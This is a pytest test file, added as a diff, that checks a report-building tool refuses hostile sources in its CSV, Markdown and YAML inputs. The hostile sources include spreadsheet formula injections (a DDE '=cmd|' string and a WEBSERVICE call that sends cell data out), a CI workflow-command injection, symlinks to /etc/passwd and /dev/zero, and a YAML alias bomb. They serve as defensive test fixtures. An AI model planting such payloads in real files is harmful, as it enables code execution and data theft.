@@ -1,0 +1,277 @@
+"""Hostile sources, as a pull request to a report repository could bring them.
+
+Each case builds its fixture here (nothing big is committed) and asserts what the
+CI of a report repository relies on: a diagnostic with its code and file, exit 1
+or 2, bounded time and memory, nothing outside the project read or changed, and
+build/ left as it was.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import re
+import subprocess
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from conftest import ROOT, copy_project, run_perfdoc
+
+SECONDS, MEGABYTES = 10, 500
+
+
+def digest_tree(root: Path) -> dict[str, str]:
+    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(root.rglob("*")) if p.is_file() and not p.is_symlink()}
+
+
+@pytest.fixture()
+def world(tmp_path):
+    """A built sample project, and a sibling folder standing for the rest of the machine."""
+    project = copy_project(ROOT, tmp_path / "project")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.txt").write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
+    (outside / "notes.md").write_text("---\nsection: overview\ntitle: 一、部门概况\n---\n机密内容\n",
+                                      encoding="utf-8")
+    (outside / "layout.toml").write_text((ROOT / "perfdoc/layouts/jiangsu-2020.toml")
+                                         .read_text(encoding="utf-8"), encoding="utf-8")
+    done = run_perfdoc("build", str(project))
+    assert done.returncode == 0, done.stdout + done.stderr
+    return project, outside
+
+
+def assert_refused(done, project: Path, outside: Path, before: dict, code: str, path: str):
+    out = done.stdout + done.stderr
+    assert done.returncode in (1, 2), out
+    assert re.search(rf"{re.escape(path)}\S*: error\[{code}\]", out), out
+    assert "root:x:0:0" not in out and "机密内容" not in out
+    assert done.seconds < SECONDS and done.peak_mb < MEGABYTES, (done.seconds, done.peak_mb)
+    assert digest_tree(outside) == before["outside"]
+    assert digest_tree(project / "build") == before["build"]
+
+
+def snapshot(project: Path, outside: Path) -> dict:
+    return {"outside": digest_tree(outside), "build": digest_tree(project / "build")}
+
+
+# ---------------------------------------------------------------- what the finance office opens
+
+
+def test_text_from_the_sources_never_becomes_a_formula(sample_copy, tmp_path):
+    (sample_copy / "indicators" / "04-履职效益.csv").write_text(
+        "一级指标,二级指标,分值,得分,说明\n"
+        '履职效益,"=HYPERLINK(""http://example.invalid/"",""点此查看"")",4,4,'
+        '"=WEBSERVICE(""http://example.invalid/?""&A2)"\n'
+        ",公众满意度,4,4,\"=cmd|' /C calc'!A0\"\n", encoding="utf-8")
+    done = run_perfdoc("build", str(sample_copy))
+    assert done.returncode == 0, done.stdout + done.stderr
+    with zipfile.ZipFile(sample_copy / "build" / "scores.xlsx") as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    formulas = re.findall(r"<f>(.*?)</f>", sheet)
+    # perfdoc's own: the two SUMs of 合计 and the grade; nothing from the CSV
+    assert len(formulas) == 3 and all(f.startswith(("SUM(", "IF(")) for f in formulas)
+    for text in ("=HYPERLINK(", "=WEBSERVICE(", "=cmd|"):
+        assert re.search(rf't="inlineStr"><is><t xml:space="preserve">{re.escape(text)}', sheet)
+
+
+def test_a_line_break_in_a_source_cannot_start_a_workflow_command(sample_copy):
+    (sample_copy / "indicators" / "04-履职效益.csv").write_text(
+        '一级指标,二级指标,分值,得分,"说明\n::error title=pwned::injected"\n'
+        "履职效益,公众满意度,8,8,\n", encoding="utf-8")
+    for fmt in ("text", "github"):
+        done = run_perfdoc("check", str(sample_copy), "--format", fmt)
+        assert done.returncode == 1
+        lines = (done.stdout + done.stderr).splitlines()
+        assert not any(line.startswith("::error title=pwned") for line in lines), lines
+        assert any("PD304" in line for line in lines)
+
+
+# ---------------------------------------------------------------- nothing outside is read
+
+
+def test_a_csv_linked_to_a_file_outside_is_not_read(world):
+    project, outside = world
+    before = snapshot(project, outside)
+    (project / "indicators" / "99-x.csv").symlink_to(outside / "secret.txt")
+    for fmt in ("text", "github"):
+        done = run_perfdoc("build", str(project), "--format", fmt)
+        if fmt == "text":
+            assert_refused(done, project, outside, before, "PD005", "indicators/99-x.csv")
+        else:
+            assert "root:x:0:0" not in done.stdout and "PD005" in done.stdout
+
+
+def test_a_section_linked_to_a_file_outside_is_not_built(world):
+    project, outside = world
+    before = snapshot(project, outside)
+    (project / "content" / "01-overview.md").unlink()
+    (project / "content" / "01-overview.md").symlink_to(outside / "notes.md")
+    done = run_perfdoc("build", str(project))
+    assert_refused(done, project, outside, before, "PD005", "content/01-overview.md")
+
+
+def test_content_as_a_link_to_a_folder_outside_is_not_read(world):
+    project, outside = world
+    os.rename(project / "content", outside / "content")
+    (project / "content").symlink_to(outside / "content")
+    before = snapshot(project, outside)
+    done = run_perfdoc("check", str(project))
+    assert_refused(done, project, outside, before, "PD005", "content/report.md")
+
+
+def test_a_layout_outside_the_project_is_refused(world):
+    project, outside = world
+    before = snapshot(project, outside)
+    facts = project / "content" / "report.md"
+    facts.write_text(facts.read_text(encoding="utf-8").replace(
+        "layout: jiangsu-2020", f"layout: {outside / 'layout.toml'}"), encoding="utf-8")
+    done = run_perfdoc("build", str(project))
+    assert_refused(done, project, outside, before, "PD003", "content/report.md")
+
+
+@pytest.mark.parametrize("kind", ["fifo", "directory", "device"])
+def test_a_source_that_is_not_a_regular_file(world, kind):
+    project, outside = world
+    before = snapshot(project, outside)
+    path = project / "indicators" / "99-x.csv"
+    if kind == "fifo":
+        os.mkfifo(path)
+    elif kind == "directory":
+        path.mkdir()
+    else:
+        path.symlink_to("/dev/zero")  # leads out, and is endless
+    done = run_perfdoc("build", str(project))
+    assert_refused(done, project, outside, before, "PD005", "indicators/99-x.csv")
+
+
+def test_a_source_too_big_to_be_real(world):
+    project, outside = world
+    before = snapshot(project, outside)
+    with open(project / "indicators" / "99-x.csv", "wb") as fh:
+        fh.truncate(200 * 1024 * 1024)  # sparse: 200 MB on paper, nothing on disk
+    done = run_perfdoc("build", str(project))
+    assert_refused(done, project, outside, before, "PD006", "indicators/99-x.csv")
+
+
+def test_yaml_aliases_cannot_expand(world):
+    project, outside = world
+    before = snapshot(project, outside)
+    lol = "\n".join(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 10))
+    facts = project / "content" / "report.md"
+    facts.write_text(facts.read_text(encoding="utf-8").replace(
+        "staffing:", f"l0: &l0 \"lol\"\n{lol}\nstaffing:"), encoding="utf-8")
+    done = run_perfdoc("build", str(project))
+    assert_refused(done, project, outside, before, "PD202", "content/report.md")
+    assert "别名" in done.stdout
+
+
+def test_an_image_too_big_is_refused(world):
+    project, outside = world
+    before = snapshot(project, outside)
+    with open(project / "content" / "big.png", "wb") as fh:
+        fh.truncate(3 * 1024 * 1024 * 1024)
+    overview = project / "content" / "01-overview.md"
+    overview.write_text(overview.read_text(encoding="utf-8") + "\n![大图](big.png)\n",
+                        encoding="utf-8")
+    done = run_perfdoc("build", str(project))
+    assert_refused(done, project, outside, before, "PD208", "content/01-overview.md")
+
+
+# ---------------------------------------------------------------- writing
+
+
+def test_outputs_are_all_or_nothing_on_a_full_disk(world):
+    """A file-size limit stands for the full disk: the large outputs fail, the small one
+    would fit, and still none of them replaces the last good set."""
+    project, outside = world
+    before = snapshot(project, outside)
+    overview = project / "content" / "01-overview.md"
+    overview.write_text(overview.read_text(encoding="utf-8") + "\n新增一段。\n", encoding="utf-8")
+    sizes = sorted(p.stat().st_size for p in (project / "build").iterdir())
+    limit = (sizes[0] + sizes[-1]) // 2
+    done = subprocess.run(
+        ["bash", "-c", f'ulimit -f {limit // 1024}; trap "" XFSZ; exec "$0" -m perfdoc build "$1"',
+         os.sys.executable, str(project)], capture_output=True, text=True, timeout=60)
+    assert done.returncode == 1, done.stdout + done.stderr
+    assert "error[PD007]" in done.stdout
+    assert digest_tree(project / "build") == before["build"]
+    assert not [p for p in (project / "build").iterdir() if p.name.endswith(".tmp")]
+
+
+def test_build_as_a_file_or_a_link_out(world):
+    project, outside = world
+    before = snapshot(project, outside)
+    os.rename(project / "build", outside / "build")
+    (project / "build").write_text("不是目录", encoding="utf-8")
+    done = run_perfdoc("build", str(project))
+    assert done.returncode == 1 and "build: error[PD007]" in done.stdout, done.stdout
+    (project / "build").unlink()
+    (project / "build").symlink_to(outside / "build")
+    done = run_perfdoc("build", str(project))
+    assert done.returncode == 1 and "build: error[PD007]" in done.stdout, done.stdout
+    assert digest_tree(outside / "build") == before["build"]
+
+
+def test_built_files_follow_the_umask(world):
+    project, _ = world
+    done = subprocess.run(["bash", "-c", 'umask 022; exec "$0" -m perfdoc build "$1"',
+                           os.sys.executable, str(project)], capture_output=True, timeout=60)
+    assert done.returncode == 0
+    assert {oct(p.stat().st_mode & 0o777) for p in (project / "build").iterdir()} == {"0o644"}
+
+
+def test_init_from_a_project_with_links_out_copies_nothing(world, tmp_path):
+    project, outside = world
+    before = snapshot(project, outside)
+    (project / "content" / "leak.md").symlink_to(outside / "secret.txt")
+    done = run_perfdoc("init", str(tmp_path / "2021"), "--from", str(project), "--year", "2021")
+    assert done.returncode == 2 and "PD005" in done.stderr, done.stdout + done.stderr
+    assert "root:x" not in done.stdout + done.stderr
+    assert not (tmp_path / "2021").exists()
+    assert digest_tree(outside) == before["outside"]
+
+
+def test_init_force_does_not_write_through_a_link(world, tmp_path):
+    project, outside = world
+    before = snapshot(project, outside)
+    target = tmp_path / "2021"
+    (target / "content").mkdir(parents=True)
+    (target / "content" / "01-overview.md").symlink_to(outside / "notes.md")
+    done = run_perfdoc("init", str(target), "--from", str(project), "--year", "2021", "--force")
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert digest_tree(outside) == before["outside"]
+    assert not (target / "indicators").exists()
+
+
+def test_import_force_into_a_linked_content_folder_touches_nothing_outside(world, tmp_path):
+    project, outside = world
+    target = tmp_path / "target"
+    target.mkdir()
+    (outside / "content").mkdir()
+    (outside / "content" / "keep.md").write_text("外部文件\n", encoding="utf-8")
+    (target / "content").symlink_to(outside / "content")
+    before = digest_tree(outside)
+    done = run_perfdoc("import", str(project / "build" / "form.docx"), "--into", str(target),
+                       "--force")
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "PD605" in done.stderr
+    assert digest_tree(outside) == before
+    assert not (target / "indicators").exists()
+
+
+def test_diff_over_a_revision_with_an_absolute_link(tmp_path):
+    repo = copy_project(ROOT, tmp_path / "repo")
+    (repo / "content" / "passwd.md").symlink_to("/etc/passwd")
+
+    def git(*args):
+        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.cn", *args],
+                       cwd=repo, check=True, capture_output=True)
+    git("init", "-q", "-b", "main")
+    git("add", "-A")
+    git("commit", "-qm", "link")
+    done = run_perfdoc("diff", "HEAD", "-C", str(repo))
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "content/passwd.md" in done.stderr and "内部错误" not in done.stderr
